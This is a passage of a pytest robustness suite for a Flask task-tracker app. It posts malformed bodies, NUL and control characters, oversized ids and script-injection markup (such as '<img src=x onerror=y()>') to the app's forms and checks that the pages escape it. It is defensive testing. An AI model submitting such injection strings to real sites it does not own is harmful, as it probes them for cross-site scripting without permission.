                           data={"file": (io.BytesIO(content), "ke\x01-hoach\x1b.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 200
    assert db.session.scalar(db.select(ImportUpload.filename)) == "ke-hoach.csv"


# ----------------------------------------------------------------- wrong bodies

WRONG_BODIES = [
    ("application/json", b'{"title": {"a": 1}, "progress": [1, 2]}'),
    ("application/json", b"[1, 2, 3]"),
    ("application/json", b"42"),
    ("application/json", b"{not json"),
    ("text/plain", b"status=done&progress=100"),
    ("application/x-www-form-urlencoded", b"%%%&&&==="),
    ("application/x-www-form-urlencoded", b"status=done&progress=1%00"),
    ("multipart/form-data; boundary=x", b"--x\r\nbroken"),
    ("application/octet-stream", bytes(range(256))),
]


@pytest.mark.parametrize("content_type, body", WRONG_BODIES)
@pytest.mark.parametrize("target", ["progress", "edit", "create", "share"])
def test_wrong_kinds_of_body(client, admin, db, content_type, body, target):
    task = get_task("nghiêm túc Quy chế dân chủ")
    path = {
        "progress": f"/tasks/{task.id}/status",
        "edit": f"/tasks/{task.id}/edit",
        "create": "/tasks/new?quarter=2023-Q2",
        "share": f"/tasks/{task.id}/share",
    }[target]
    response = client.post(path, data=body, content_type=content_type)
    assert response.status_code in ANSWERS
    stored_data_is_valid(db)


@pytest.mark.parametrize("target", ["progress", "edit", "create", "share", "login"])
def test_uploads_into_text_fields(client, admin, db, target):
    """A file where text is expected is refused, not read, never a 500."""
    task = get_task("nghiêm túc Quy chế dân chủ")
    path = {
        "progress": f"/tasks/{task.id}/status",
        "edit": f"/tasks/{task.id}/edit",
        "create": "/tasks/new?quarter=2023-Q2",
        "share": f"/tasks/{task.id}/share",
        "login": "/login",
    }[target]
    data = {name: (io.BytesIO(b"<script>x</script>"), "a.html")
            for name in ("title", "note", "share_note", "status", "progress",
                         "username", "unit_id", "kind")}
    response = client.post(path, data=data, content_type="multipart/form-data")
    assert response.status_code in ANSWERS
    assert "<script>x</script>" not in response.get_data(as_text=True)
    stored_data_is_valid(db)


def test_markup_in_every_text_field_is_escaped_everywhere(client, admin, db):
    """Plan a task whose every text field is markup; each page shows it as text."""
    bdv = db.session.scalar(db.select(Unit).where(Unit.short_name == "BDV"))
    marks = {name: f"<i>{name}</i><script>x()</script>" for name in (
        "title", "description", "source_document", "target_label", "result",
        "organisation")}
    marks["target_label"] = "<i>t</i>"
    data = {"kind": "congress", "lead_unit_id": str(bdv.id), "target_count": "3",
            **marks}
    response = client.post("/tasks/new?quarter=2023-Q2", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    task_path = response.headers["Location"]
    client.post(task_path + "/status", data={
        "status": "in_progress", "progress": "10", "note": "<img src=x onerror=y()>"})
    pages = [task_path, task_path + "/edit", "/quarters/2023-Q2/", f"/units/{bdv.id}",
             "/quarters/2023-Q2/?q=script"]
    for path in pages:
        html = client.get(path).get_data(as_text=True)
        assert "<script>x()</script>" not in html and "<img src=x" not in html, path
        assert str(escape(marks["title"])) in html, path


@pytest.mark.parametrize("path", [
    "/tasks/99999999999999999999999", "/tasks/9223372036854775808/edit",
    "/units/99999999999999999999999", "/tasks/18446744073709551616/status",
])
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_ids_beyond_64_bits_are_not_found(client, admin, path, method):
    response = client.open(path, method=method, data={"status": "done"})
    assert response.status_code in (404, 405)


# Ids in a list's filters: past what an integer column holds (PostgreSQL refuses to
# compare them), or digits only to str.isdigit() ("²").
ODD_IDS = ["9250633586", "2147483648", "99999999999999999999", "²", "٣", "0", "-1"]


@pytest.mark.parametrize("value", ODD_IDS)
@pytest.mark.parametrize("path", [
    "/petitions/?body={}", "/initiatives/?unit={}", "/initiatives/?year={}",
    "/admin/audit?entity_id={}", "/admin/audit?user={}", "/petitions/new?task={}",
])
def test_odd_ids_in_filters_are_ignored_or_not_found(client, admin, path, value):
    response = client.get(path.format(value))
    assert response.status_code in (200, 404), response.status_code


@pytest.mark.parametrize("year", ["99999999999999999999999999", "-1", "2100000"])
def test_year_out_of_range_is_refused_before_the_database(client, admin, db, year):
    response = client.post("/quarters/new", data={"year": year, "number": "1"})
    assert response.status_code == 400
    assert db.session.scalar(db.select(db.func.count(Quarter.id))) == 2


def test_hostile_list_is_printable():
    """The sample strings themselves are what they claim (a guard for this file)."""
    assert "\x00" in HOSTILE and any(set(s) - set(string.printable) for s in HOSTILE)


def test_the_nul_check_finds_a_nul(db):
    """The invariant the forms are fuzzed against can fail: a stored NUL is found."""
    from tracker.models.audit import AuditEvent

    no_nul_in_any_text_column(db)
    event = AuditEvent(entity_type="task", entity_id=1, action="edit",
                       changes={"title": ["a\x00b", "c"]})
    db.session.add(event)
    db.session.commit()
    with pytest.raises(AssertionError, match="audit_event"):
        no_nul_in_any_text_column(db)
    if db.engine.dialect.name == "sqlite":  # PostgreSQL refuses a NUL in text
        event.changes, event.note = None, "a\x00b"
        db.session.commit()
        with pytest.raises(AssertionError, match="audit_event"):
            no_nul_in_any_text_column(db)
